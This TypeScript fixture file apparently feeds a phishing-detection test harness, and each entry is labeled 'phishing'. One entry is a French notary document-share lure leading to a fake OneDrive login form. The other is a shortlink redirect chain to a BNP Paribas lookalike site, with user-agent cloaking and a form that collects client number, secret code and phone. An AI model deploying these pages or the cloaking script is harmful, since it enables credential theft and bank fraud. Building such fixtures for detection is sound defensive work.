import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc } from '../parts/zx-kit.js';

export const entries: Entry[] = [
  {
  id: 'zx-lure-document-notaire-onedrive',
  label: 'phishing',
  kind: 'lure-link-page',
  url: 'https://etude-notariale-partage.my.canva.site/',
  body: doc({ title: 'Étude notariale - Documents partagés', css: '.c{max-width:520px;margin:70px auto;background:#fff;padding:30px;border:1px solid #ddd;text-align:center}', body: `<div class="c"><svg width="56" height="56"><rect width="56" height="56" rx="6" fill="#0364b8"/><text x="10" y="36" fill="#fff" font-size="18" font-family="Arial">PDF</text></svg><h2>Me Laurent Girard, notaire, vous a envoyé des documents</h2><p>Acte_de_vente_projet.pdf · Relevé_de_compte_séquestre.pdf (2 fichiers, 1,4 Mo)</p><a class="btn" href="https://onedrive-notaires-fr.com/auth/login.php?doc=acte">Consulter les documents</a><p style="font-size:12px;color:#777">Ce lien expire dans 48 heures.</p></div>` }),
  routes: { 'onedrive-notaires-fr.com/auth/login.php': htmlRoute(doc({ title: 'Connexion - OneDrive', body: `<div style="width:420px;margin:80px auto;background:#fff;padding:40px"><h2>Se connecter pour afficher le document</h2><form method="post" action="/auth/post.php"><label>Adresse e-mail</label><input name="email"><label>Mot de passe</label><input type="password" name="pass"><button class="btn" style="background:#0067b8">Afficher</button></form></div>` })) },
},
  {
  id: 'zx-lure-shortlink-chain-bnp',
  label: 'phishing',
  kind: 'redirect-chain-kit',
  url: 'https://bit-ly.link-secure.me/3xBnPp',
  routes: {
    'bit-ly.link-secure.me/3xBnPp': redirectRoute(301, 'https://secure-clients.mabanque-bnpparibas.info/gate.php?id=3xBnPp'),
    'secure-clients.mabanque-bnpparibas.info/gate.php': htmlRoute('<!doctype html><html><head><meta charset="utf-8"><title></title><script>if(!/Mobi|Android|iPhone/i.test(navigator.userAgent)){location.replace("https://www.google.fr/")}else{location.replace("/connexion/")}</script></head><body></body></html>'),
    'secure-clients.mabanque-bnpparibas.info/connexion/': htmlRoute(doc({ title: 'Mes Comptes - BNP Paribas', css: '.g{background:#00915a;color:#fff;padding:14px 0}', body: `<div class="g"><div class="wrap"><b>BNP PARIBAS</b> · La banque d'un monde qui change</div></div><main class="wrap" style="max-width:420px;padding:24px 18px"><h2>Accéder à mes comptes</h2><p>Nouvelle réglementation DSP2 : activez la clé digitale sur votre nouvel appareil.</p><form method="post" action="/connexion/valid.php"><label>Numéro client</label><input name="client"><label>Code secret (6 chiffres)</label><input type="password" name="code" maxlength="6"><label>Numéro de mobile</label><input name="tel"><button class="btn" style="background:#00915a">Valider</button></form></main>` })),
  },
},
];
